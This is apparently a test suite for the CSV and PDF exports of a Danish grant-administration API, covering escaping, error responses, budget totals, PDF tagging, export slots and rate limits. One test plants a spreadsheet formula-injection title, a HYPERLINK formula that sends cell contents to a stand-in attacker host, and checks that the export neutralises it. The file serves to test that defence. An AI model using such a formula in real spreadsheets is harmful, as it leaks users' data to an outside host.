import { randomUUID } from 'node:crypto';
import { extractText, getDocumentProxy } from 'unpdf';
import { formatDate } from '../../libs/core/format/danish.js';
import { ManualClock } from '../../libs/core/time/clock.js';
import { copenhagenDate } from '../../libs/core/time/copenhagen.js';
import { ExportStreams } from '../../libs/core/http/export-streams.js';
import { readCsv } from '../support/csv.js';
import { givenAward, givenProgramme } from '../support/grant-case.js';
import { createTestApp, type TestApp } from '../support/test-app.js';
import { type SignedInUser, signedInAs } from '../support/users.js';
import { downloadBytes } from '../support/download.js';

/** A download read to its end, as text. */
const download = (request: ReturnType<TestApp['http']['get']>) =>
  request.buffer(true).parse((response, done) => {
    const chunks: Buffer[] = [];
    response.on('data', (chunk: Buffer) => chunks.push(chunk));
    response.on('end', () => done(null, Buffer.concat(chunks).toString('utf8')));
  });

describe('exports', () => {
  let api: TestApp;
  let admin: SignedInUser;
  let caseworker: SignedInUser;
  beforeAll(async () => {
    api = await createTestApp();
    admin = await signedInAs(api, 'admin');
    caseworker = await signedInAs(api, 'caseworker');
  });
  afterAll(() => api.close());

  it('escapes a project title that a spreadsheet would run as a formula, and leaves the amount a number', async () => {
    const programme = await givenProgramme(api, admin);
    const lead = await signedInAs(api, 'project_lead', '851');
    const people = { lead, assessor: await signedInAs(api, 'caseworker'), decider: await signedInAs(api, 'caseworker') };
    const title = '=HYPERLINK("http://angriber.example/?x="&A1;"Se ansøgning")';
    const award = await givenAward(api, people, programme.id, undefined, { title });

    const response = await download(api.http.get('/api/v1/exports/awards.csv').query({ programmeId: programme.id }).set(caseworker.bearer)).expect(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['cache-control']).toBe('no-store');
    const [header, ...rows] = readCsv(response.body as string);
    const row = rows.find((cells) => cells[0] === award.caseNumber)!;
    expect(row[header.indexOf('Titel')]).toBe(`'${title}`);
    expect(row[header.indexOf('Bevilget beløb (kr.)')]).toBe('11.014.260,00');
  });

  it('answers the overview of an unknown programme with a 404 problem at once, not a download that never ends', async () => {
    const response = await api.http
      .get('/api/v1/exports/award-overview.pdf')
      .query({ programmeId: randomUUID() })
      .set(caseworker.bearer)
      .timeout(5_000)
      .expect(404);
    expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(response.body).toMatchObject({ type: 'urn:tilskud:problem:not-found', requestId: response.headers['x-request-id'] });
  });

  it('refuses the overview without a programme: 400 problem+json naming programmeId, in Danish', async () => {
    const response = await api.http.get('/api/v1/exports/award-overview.pdf').set(caseworker.bearer).expect(400);
    expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(response.body).toMatchObject({
      type: 'urn:tilskud:problem:validation-failed',
      title: 'Ugyldige oplysninger',
      errors: [{ field: 'programmeId', message: 'skal udfyldes' }],
    });
    await api.http.get('/api/v1/exports/award-overview.pdf').query({ programmeId: 'ÆLD-2020' }).set(caseworker.bearer).expect(400);
  });

  it('measures the overview against the budget with its adjustments: a covered over-commitment is not over the frame', async () => {
    // 10 mio. kr. budget, raised by 2 mio. kr.; the award of 11.014.260 kr. is within the 12 mio. kr. frame.
    const programme = await givenProgramme(api, admin, { budgetOre: 1_000_000_000, name: 'Pulje med budgetregulering' });
    await api.http
      .post(`/api/v1/programmes/${programme.id}/budget-adjustments`)
      .set(admin.bearer)
      .send({ deltaOre: 200_000_000, reason: 'Restmidler overført fra 2019-puljen' })
      .expect(201);
    const people = {
      lead: await signedInAs(api, 'project_lead', '706'),
      assessor: await signedInAs(api, 'caseworker'),
      decider: await signedInAs(api, 'caseworker'),
    };
    const award = await givenAward(api, people, programme.id);

    const before = new Date();
    const response = await downloadBytes(api.http.get('/api/v1/exports/award-overview.pdf').query({ programmeId: programme.id }).set(caseworker.bearer)).expect(
      200,
    );
    const after = new Date();
    expect(response.headers['content-type']).toBe('application/pdf');
    // Each reader takes its own copy: pdf.js hands the bytes to its worker and detaches them.
    const bytes = () => new Uint8Array(response.body as Buffer);
    const text = ((await extractText(bytes(), { mergePages: true })).text as string).replace(/\s+/g, ' ');
    expect(text).toContain('Sundheds- og Ældreministeriet');
    expect([before, after].map((at) => `Dannet ${formatDate(copenhagenDate(at))} kl.`).some((produced) => text.includes(produced))).toBe(true);
    expect(text).toContain('Tilsagnsoversigt');
    expect(text).toContain(award.caseNumber);
    expect(text).toContain('I alt bevilget til 1 projekt: 11.014.260 kr.');
    expect(text).toContain('Puljens ramme: 10.000.000 kr. · Budgetreguleringer: +2.000.000 kr. · Ramme i alt: 12.000.000 kr. · Ikke disponeret: 985.740 kr.');
    expect(text).not.toContain('ud over rammen');
    expect(text).not.toContain('Under puljens minimum');
    expect(text).not.toContain('kr..');

    // Tagged like the letters: marked, Danish, titled, with a heading and a table whose header cells are tagged.
    const document = await getDocumentProxy(bytes());
    expect(await document.getMarkInfo()).toMatchObject({ Marked: true });
    const { info } = (await document.getMetadata()) as { info: { Language?: string; Title?: string; Author?: string } };
    expect(info).toMatchObject({ Language: 'da-DK', Title: 'Tilsagnsoversigt: Pulje med budgetregulering', Author: 'Sundheds- og Ældreministeriet' });
    const roles = JSON.stringify(await (await document.getPage(1)).getStructTree());
    for (const role of ['"role":"H1"', '"role":"Table"', '"role":"TR"', '"role":"TH"', '"role":"TD"', '"role":"P"', '"role":"L"'])
      expect(roles).toContain(role);
  });

  it('refuses an export at once with 503 while every export slot is taken, and takes one again after', async () => {
    const streams = api.app.get(ExportStreams);
    let release!: () => void;
    const held = new Promise<void>((resolve) => (release = resolve));
    // EXPORT_CONCURRENCY is 2: two long answers under way fill the slots.
    const running = [streams.inSlot(() => held), streams.inSlot(() => held)];
    try {
      for (const path of ['/api/v1/exports/awards.csv', `/api/v1/exports/award-overview.pdf?programmeId=${randomUUID()}`, '/api/v1/audit-events/verify']) {
        const busy = await api.http.get(path).set(admin.bearer).expect(503);
        expect(busy.body).toMatchObject({ type: 'urn:tilskud:problem:exports-busy', retryAfterSeconds: 10 });
        expect(busy.headers['retry-after']).toBe('10');
      }
    } finally {
      release();
      await Promise.all(running);
    }
    await download(api.http.get('/api/v1/exports/awards.csv').set(admin.bearer)).expect(200);
    await api.http.get('/api/v1/audit-events/verify').set(admin.bearer).expect(200);
  });
});

describe('exports per user', () => {
  it('lets one user start EXPORT_RATE_LIMIT exports and chain verifications a minute; others are not counted with them', async () => {
    // A clock standing still at the start of a minute: the count is per fixed minute, which a real clock could leave mid-test.
    const clock = new ManualClock(new Date('2026-12-04T10:00:00Z'));
    const api = await createTestApp({ clock, env: { EXPORT_RATE_LIMIT: '2', QUEUE_PREFIX: `${process.env.QUEUE_PREFIX}-export-limit` } });
    try {
      const admin = await signedInAs(api, 'admin');
      await download(api.http.get('/api/v1/exports/awards.csv').set(admin.bearer)).expect(200);
      await api.http.get('/api/v1/audit-events/verify').set(admin.bearer).expect(200);
      const limited = await api.http.get('/api/v1/exports/audit-events.csv').set(admin.bearer).expect(429);
      expect(limited.body).toMatchObject({ type: 'urn:tilskud:problem:rate-limited' });
      expect(Number(limited.headers['retry-after'])).toBeGreaterThan(0);
      const other = await signedInAs(api, 'admin');
      await download(api.http.get('/api/v1/exports/awards.csv').set(other.bearer)).expect(200);
    } finally {
      await api.close();
    }
  });
});
